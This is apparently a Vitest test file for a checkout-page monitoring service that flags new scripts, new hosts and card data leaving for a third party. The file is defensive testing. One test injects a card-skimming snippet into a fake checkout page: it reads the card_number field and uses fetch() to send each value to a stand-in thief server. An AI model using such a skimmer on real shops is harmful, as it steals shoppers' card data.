import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { storeRemoved } from '#contract/events/stores';
import { announce } from '#kit/events/events';
import { system } from '#kit/http/actor';
import { newId } from '#kit/id';
import { LiveHub } from '#kit/live';
import { actorOf, type TestApp, testApp } from '#kit/testing/test-app';
import { addStore } from '#rooms/stores';
import { insertChange } from './store.ts';
import type { ChangeRow } from './tables.ts';
import { startWebServer, type WebServer } from '../../../test/fakes/web-server.ts';

let t: TestApp;
let shop: WebServer;
let thief: WebServer;
let more: string;
let opens: boolean;
beforeAll(async () => {
  t = await testApp({ rooms: ['people', 'stores', 'monitoring', 'incidents', 'payment-pages'] });
  thief = await startWebServer((_, response) =>
    response.writeHead(200, { 'content-type': 'text/javascript' }).end('window.here = 1;'),
  );
  shop = await startWebServer((request, response) => {
    const script = request.url!.startsWith('/theme.js');
    if (!script && !opens) return void response.writeHead(503).end('closed');
    response
      .writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html' })
      .end(
        script
          ? 'window.theme = 1;'
          : `<!doctype html><title>Checkout</title><form action="/pay"><input name="card_number"></form><script src="/theme.js"></script>${more}`,
      );
  });
});
afterEach(() => ([more, opens] = ['', true]));
afterAll(async () => {
  await t.close();
  await Promise.all([shop, thief].map((web) => web.close()));
});
[more, opens] = ['', true];

const engineer = actorOf('engineer', { name: 'Engineer', personId: '00000000-0000-7000-8000-0000000000e1' });
const patience = 240_000;
let count = 0;

async function given() {
  const url = `https://shop-${++count}.example`;
  const store = await t.write((trx) => addStore(trx, t.app, system, { url, name: `Shop <${count}>` }));
  const viewer = actorOf('client_viewer', { clientIds: [store.client_id], personId: newId() });
  const at = (path: string) => `/api/stores/${store.id}/${path}`;
  return { store, viewer, at };
}
const watched = (at: (path: string) => string) =>
  t.call(engineer, 'PUT', at('payment-pages'), { checkout: `${shop.origin}/checkout` });
async function look(at: (path: string) => string) {
  t.clock.advance(60_000);
  expect((await t.call(engineer, 'POST', at('payment-pages/look'))).status).toBe(200);
  await t.sweep();
  await t.drain();
  return (await t.call(engineer, 'GET', at('payment-pages'))).body;
}
const changesOf = async (at: (path: string) => string) =>
  (await t.call(engineer, 'GET', at('payment-changes'))).body.items as {
    id: string;
    kind: string;
    state: string;
    about: string;
    meaning: string;
  }[];
const saw = (store_id: string, change: Pick<ChangeRow, 'kind' | 'weight' | 'about'>) =>
  t.write((trx) =>
    insertChange(trx, {
      ...{ id: newId(), store_id, page: 'checkout', ...change, detail: '', first_at: 1, last_at: 1, state: 'open' },
      ...{ judged_at: null, judged_by: null, judged_why: null },
    }),
  );
const why = 'Agreed with the shop on the phone';

test(
  'from the first visit to an alarm that wakes somebody, its judgement and the review',
  async () => {
    const { store, viewer, at } = await given();
    expect((await watched(at)).body).toMatchObject({ everyHours: 24, alarms: 0 });
    await t.sweep();
    await t.drain();
    const first = (await t.call(viewer, 'GET', at('payment-pages'))).body;
    expect(first).toMatchObject({ toApprove: 1, alarms: 0, latest: { done: true, trouble: null, scripts: 1 } });
    const [script] = first.pages[0].scripts;
    expect(script).toMatchObject({ url: `${shop.origin}/theme.js`, approval: null });

    const approved = await t.call(engineer, 'POST', at('payment-approvals'), {
      kind: 'script',
      about: [script.id],
      why,
    });
    expect(approved.body.items).toMatchObject([{ by: 'Engineer', why, withdrawn: null }]);
    const again = { kind: 'script', about: ['inline:other', script.id], why };
    expect((await t.call(engineer, 'POST', at('payment-approvals'), again)).status).toBe(409);
    const { toApprove, pages } = (await t.call(viewer, 'GET', at('payment-pages'))).body;
    expect(toApprove).toBe(0);
    expect(pages[0].scripts).toMatchObject([{ firstAt: pages[0].seenAt, hears: [], approval: { by: 'Engineer' } }]);
    // Nothing of what was refused as a whole stays.
    expect((await t.call(engineer, 'GET', at('payment-approvals'))).body.total).toBe(1);

    more = `<script src="${thief.origin}/s.js"></script>`;
    expect(await look(at)).toMatchObject({ alarms: 1, toApprove: 1 });
    // What is not judged does not become usual by being there, and is one alarm as long as it lasts.
    expect(await look(at)).toMatchObject({ alarms: 1 });
    const [alarm] = await changesOf(at);
    expect(alarm).toMatchObject({ kind: 'script_host_new', state: 'open', about: new URL(thief.origin).host });
    const incidents = (await t.call(engineer, 'GET', `/api/incidents?storeId=${store.id}`)).body.items;
    expect(alarm).toMatchObject({ incident: { id: incidents[0].id, number: incidents[0].number } });
    expect(alarm!.meaning).toContain('Code of somebody new');
    expect(incidents).toMatchObject([{ severity: 'major', title: 'Checkout: runs or sends something new' }]);
    const { timeline } = (await t.call(engineer, 'GET', `/api/incidents/${incidents[0].id}`)).body;
    expect(timeline.map((line: { text: string }) => line.text).join()).toContain(new URL(thief.origin).host);

    const judged = { as: 'hostile', why };
    expect((await t.call(viewer, 'POST', `/api/payment-changes/${alarm!.id}/judge`, judged)).status).toBe(403);
    expect((await t.call(engineer, 'POST', `/api/payment-changes/${alarm!.id}/judge`, judged)).body.state).toBe(
      'hostile',
    );
    expect((await t.call(engineer, 'POST', `/api/payment-changes/${alarm!.id}/judge`, judged)).status).toBe(409);
    // Seen again after it was called hostile, it is told again.
    expect(await look(at)).toMatchObject({ alarms: 1 });
    const [back] = await changesOf(at);
    await t.call(engineer, 'POST', `/api/payment-changes/${back!.id}/judge`, { as: 'expected', why });
    expect(await look(at)).toMatchObject({ alarms: 0 });

    const review = await t.call(engineer, 'POST', at('payment-reviews'), { note: 'All read' });
    expect(review.body).toMatchObject({ by: 'Engineer', note: 'All read' });
    const report = `/api/payment-reviews/${review.body.id}/report`;
    for (const language of ['en', 'ru', 'uk']) {
      const { status, body } = await t.call(viewer, 'GET', `${report}.html?language=${language}`);
      expect(status).toBe(200);
      expect(body).toContain(new URL(thief.origin).host);
      expect(body).toContain(`Shop &#60;${count}&#62;`);
      expect(body).not.toContain(`Shop <${count}>`);
      expect(body).not.toMatch(/undefined|\{\w+\}[^{}]*<\/(?:p|td|h\d)>/);
    }
    expect((await t.call(viewer, 'GET', `${report}.pdf`)).body).toMatch(/^%PDF/);
    expect((await t.call(actorOf('client_viewer'), 'GET', `${report}.html`)).status).toBe(404);

    // A period of one's own; the next review begins where this one ended.
    const ahead = new Date(t.clock.now() + 60_000).toISOString();
    expect((await t.call(engineer, 'POST', at('payment-reviews'), { since: ahead })).body.error.field).toBe('since');
    const since = new Date(t.clock.now() - 30 * 86_400_000).toISOString();
    expect((await t.call(engineer, 'POST', at('payment-reviews'), { since })).body).toMatchObject({ since });
    expect((await t.call(engineer, 'POST', at('payment-reviews'), {})).body.since).toBe(
      new Date(t.clock.now()).toISOString(),
    );
  },
  patience,
);

test(
  'a page that does not open is said, counts as no visit, and the schedule goes on',
  async () => {
    const { at } = await given();
    opens = false;
    await watched(at);
    await t.sweep();
    await t.drain();
    const seen = (await t.call({ ...engineer, language: 'ru' }, 'GET', at('payment-pages'))).body;
    expect(seen).toMatchObject({ pages: [], latest: { done: true, scripts: 0 } });
    expect(seen.latest.trouble).toContain('Посмотреть удалось не все страницы');
    // The store's own error is told with what it answered; it is no fault of ours.
    expect(seen.latest.fault).toBe('store');
    expect(seen.latest.steps).toMatchObject([
      { page: 'checkout', url: `${shop.origin}/checkout`, status: 503, outcome: 'error', fault: 'store' },
    ]);
    expect(seen.latest.steps[0].text).toContain('Магазин отвечает 503');
    expect(seen.latest.steps[0].detail).toContain('HTTP 503');
    expect(Date.parse(seen.next)).toBe(t.clock.now() + 86_400_000);
    const before = seen.looks.length;
    await t.sweep();
    expect((await t.call(engineer, 'GET', at('payment-pages'))).body.looks).toHaveLength(before);
  },
  patience,
);

test(
  'approving a host never lets a card leave for it: that is said by itself, with words of its own, and taken back',
  async () => {
    const { at } = await given();
    const steal = (line: string) =>
      `<script>document.querySelector('[name=card_number]').addEventListener('input', (e) => ${line});</script>`;
    const host = new URL(thief.origin).host;
    await watched(at);
    more = steal(`fetch('${thief.origin}/in?' + e.target.value, { mode: 'no-cors' })`);
    expect(await look(at)).toMatchObject({ alarms: 1, pages: [{ cards: [{ host, approval: null }] }] });

    const approve = (body: object) => t.call(engineer, 'POST', at('payment-approvals'), body);
    const byHost = await approve({ kind: 'host', about: [host], why });
    expect(byHost.body.cardsGoTo).toEqual([host]);
    expect(await look(at)).toMatchObject({ alarms: 1 });
    const [alarm] = (await changesOf(at)).filter(({ kind }) => kind === 'card_leaves');
    expect(alarm).toMatchObject({ state: 'open', about: host });
    const expected = { as: 'expected', why };
    const judged = await t.call(engineer, 'POST', `/api/payment-changes/${alarm!.id}/judge`, expected);
    expect(judged).toMatchObject({ status: 409, body: { error: { code: 'card' } } });

    // Not beforehand, not several at once, not with the words of the host.
    const own = 'Our own provider of payments, agreed in writing';
    const code = async (body: object) => (await approve(body)).body.error.code;
    expect(await code({ kind: 'card', about: ['pay.example'], why: own })).toBe('no_card');
    expect(await code({ kind: 'card', about: [host, 'pay.example'], why: own })).toBe('one_host');
    expect(await code({ kind: 'card', about: [host], why })).toBe('own_why');
    const { body } = await approve({ kind: 'card', about: [host], why: own });
    expect(body.items).toMatchObject([{ kind: 'card', about: host, why: own, by: 'Engineer' }]);
    expect((await changesOf(at)).find(({ id }) => id === alarm!.id)).toMatchObject({
      state: 'expected',
      judged: { why: own },
    });
    expect(await look(at)).toMatchObject({ alarms: 0, pages: [{ cards: [{ host, approval: { why: own } }] }] });

    await t.call(engineer, 'POST', `/api/payment-approvals/${body.items[0].id}/withdraw`, { why });
    expect(await look(at)).toMatchObject({ alarms: 1 });
  },
  patience,
);

test('wrong input changes nothing; a client sees its own; an approval is taken back, and that stays in the log', async () => {
  const { store, viewer, at } = await given();
  const other = (await given()).at;
  expect((await t.call(engineer, 'PUT', at('payment-pages'), {})).body.error).toMatchObject({ field: 'checkout' });
  expect((await t.call(engineer, 'PUT', at('payment-pages'), { cart: 'javascript:1' })).status).toBe(422);
  expect((await t.call(engineer, 'POST', at('payment-pages/look'))).status).toBe(409);
  expect((await t.call(viewer, 'PUT', at('payment-pages'), { cart: shop.origin })).status).toBe(403);
  expect((await t.call(viewer, 'GET', other('payment-pages'))).status).toBe(404);
  const off = await t.call(engineer, 'PUT', at('payment-pages'), { everyHours: 0 });
  expect(off.body).toMatchObject({ everyHours: 0, next: null });
  const short = { kind: 'host', about: ['pay.example'], why: 'ok' };
  expect((await t.call(engineer, 'POST', at('payment-approvals'), short)).status).toBe(422);
  await saw(store.id, { kind: 'script_new', weight: 'approve', about: 'pay.example.net/b.js' });
  await saw(store.id, { kind: 'frame_new', weight: 'alarm', about: 'pay.example' });
  await saw(store.id, { kind: 'script_new', weight: 'approve', about: 'pay.example/a.js' });
  const { id } = (await t.call(engineer, 'POST', at('payment-approvals'), { ...short, why })).body.items[0];
  // What waited for this alone is answered; an alarm is judged by itself.
  const changes = await changesOf(at);
  expect(changes.map(({ state }) => state)).toEqual(['open', 'open', 'expected']);
  const states = changes.map(({ about, state }) => [about, state]);
  expect(states.toSorted()).toEqual([
    ['pay.example', 'open'],
    ['pay.example.net/b.js', 'open'],
    ['pay.example/a.js', 'expected'],
  ]);
  const back = await t.call(engineer, 'POST', `/api/payment-approvals/${id}/withdraw`, { why });
  expect(back.body.withdrawn).toMatchObject({ by: 'Engineer', why });
  expect((await t.call(engineer, 'POST', `/api/payment-approvals/${id}/withdraw`, { why })).status).toBe(409);
  expect((await t.call(viewer, 'GET', at('payment-approvals'))).body.items).toHaveLength(1);

  const removed = { storeId: store.id, clientId: store.client_id, name: store.name, url: store.url, at: t.clock.now() };
  await t.write((trx) => announce(trx, t.app, storeRemoved, removed as never));
  await t.drain();
  expect((await t.call(engineer, 'GET', at('payment-approvals'))).body.items).toEqual([]);
});

test('consoles are told that a visit is asked for, begins and is over; the list shows alarms first and one store alone', async () => {
  const one = await given();
  const two = await given();
  opens = false;
  await watched(one.at);
  await watched(two.at);
  const hub = new LiveHub(t.app);
  await hub.start();
  const told: string[] = [];
  hub.on('change', ({ topic, storeId }) => topic === 'audit' && storeId === one.store.id && told.push(topic));
  await t.call(engineer, 'POST', one.at('payment-pages/look'));
  await expect.poll(() => told.length).toBe(1);
  await t.sweep();
  await expect.poll(() => told.length).toBe(2);
  expect((await t.call(engineer, 'GET', one.at('payment-pages'))).body).toMatchObject({ looking: true, latest: null });
  await t.drain();
  await expect.poll(() => told.length).toBe(3);
  expect((await t.call(engineer, 'GET', one.at('payment-pages'))).body).toMatchObject({ looking: false });
  await hub.stop();

  const list = async (query: string, actor = engineer) =>
    (await t.call(actor, 'GET', `/api/payment-pages?limit=500&${query}`)).body.items as { store: { id: string } }[];
  expect(await list(`storeId=${two.store.id}`)).toMatchObject([{ store: { id: two.store.id } }]);
  expect(await list(`storeId=${two.store.id}`, one.viewer)).toEqual([]);
  expect(await list('', one.viewer)).toHaveLength(1);
  await saw(two.store.id, { kind: 'frame_new', weight: 'alarm', about: 'evil.example' });
  const ids = (await list('')).map(({ store }) => store.id);
  expect(ids.indexOf(two.store.id)).toBeLessThan(ids.indexOf(one.store.id));
}, 240_000);
